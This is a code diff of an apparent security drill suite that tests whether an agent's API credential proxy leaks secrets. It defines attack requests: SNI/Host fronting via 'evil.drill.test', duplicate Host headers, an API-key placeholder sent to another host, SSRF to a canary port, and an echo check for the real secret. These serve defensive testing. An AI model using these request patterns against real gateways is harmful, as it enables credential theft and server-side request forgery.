@@ -9,7 +9,10 @@ const OTHER = 'other.drill.test'
 type Exchange = { servername?: string | undefined; connectTo?: string }
 
 /** A request exactly as written, over TLS to the API that the agent may use. */
-function sendTls(bytes: string, { servername = API, connectTo = API }: Exchange = {}): Promise<Attempt> {
+function sendTls(
+  bytes: string,
+  { servername = API, connectTo = API }: Exchange = {},
+): Promise<Attempt> {
   return new Promise((resolve) => {
     let got = ''
     const options: tls.ConnectionOptions = {
@@ -39,7 +42,7 @@ function sendTls(bytes: string, { servername = API, connectTo = API }: Exchange 
 const raw =
   (lines: (id: string, placeholder: string) => readonly string[], exchange?: Exchange): Run =>
   (id, { placeholder }) => {
-    const [head = [], body = ''] = split(lines(id, placeholder))
+    const [head, body] = split(lines(id, placeholder))
     return sendTls(`${head.join('\r\n')}\r\n\r\n${body}`, exchange)
   }
 
@@ -60,7 +63,9 @@ export const httpAttacks: Readonly<Record<string, Run>> = {
   'host-front': raw((id) => [`GET /public/${id} HTTP/1.1`, `Host: ${API}`, close], {
     servername: 'evil.drill.test',
   }),
-  'host-nosni': raw((id) => [`GET /public/${id} HTTP/1.1`, `Host: ${API}`, close], { servername: '' }),
+  'host-nosni': raw((id) => [`GET /public/${id} HTTP/1.1`, `Host: ${API}`, close], {
+    servername: '',
+  }),
   'host-two': raw((id) => [
     `GET /public/${id} HTTP/1.1`,
     `Host: ${API}`,
@@ -122,10 +127,10 @@ export const httpAttacks: Readonly<Record<string, Run>> = {
     close,
   ]),
   'cred-host': (id, { placeholder }) =>
-    sendTls(
-      `GET /public/${id} HTTP/1.1\r\nHost: ${OTHER}\r\nX-Api-Key: ${placeholder}\r\n\r\n`,
-      { servername: OTHER, connectTo: OTHER },
-    ),
+    sendTls(`GET /public/${id} HTTP/1.1\r\nHost: ${OTHER}\r\nX-Api-Key: ${placeholder}\r\n\r\n`, {
+      servername: OTHER,
+      connectTo: OTHER,
+    }),
   'cred-body': raw(
     (id, key) => [
       'POST /submit HTTP/1.1',
@@ -154,10 +159,7 @@ export const httpAttacks: Readonly<Record<string, Run>> = {
 /** The name is allowed, port and all; where it leads is not. */
 function ssrf(host: string): Run {
   return (id, { canaryPort: port }) =>
-    sendTcp(
-      { host, port },
-      `GET /${id} HTTP/1.1\r\nHost: ${host}:${port}\r\n${close}\r\n\r\n`,
-    )
+    sendTcp({ host, port }, `GET /${id} HTTP/1.1\r\nHost: ${host}:${port}\r\n${close}\r\n\r\n`)
 }
 
 /**
@@ -169,14 +171,19 @@ async function echo(_id: string, { placeholder }: { placeholder: string }): Prom
   const text = await answer.text()
   if (!answer.ok) return { succeeded: false, detail: `status ${answer.status}` }
   // The server says which digest the value it got has: the attacker can recognise it by that.
-  const { digest, ...echoes } = JSON.parse(text) as Record<string, string>
+  const echoes = new Map(Object.entries(Object(JSON.parse(text))).map(([k, v]) => [k, String(v)]))
+  const digest = echoes.get('digest')
+  echoes.delete('digest')
   const { createHash } = await import('node:crypto')
-  const forms = Object.values(echoes).flatMap((value) => [
+  const forms = [...echoes.values()].flatMap((value) => [
     value,
     Buffer.from(value, 'base64').toString(),
     Buffer.from(value, 'hex').toString(),
     decodeURIComponent(value.replace(/%(?![0-9A-Fa-f]{2})/g, '%25')),
   ])
   const hit = forms.some((form) => createHash('sha256').update(form).digest('hex') === digest)
-  return { succeeded: hit, detail: hit ? 'the real value came back' : `scrubbed: ${echoes['plain']}` }
+  return {
+    succeeded: hit,
+    detail: hit ? 'the real value came back' : `scrubbed: ${echoes.get('plain')}`,
+  }
 }
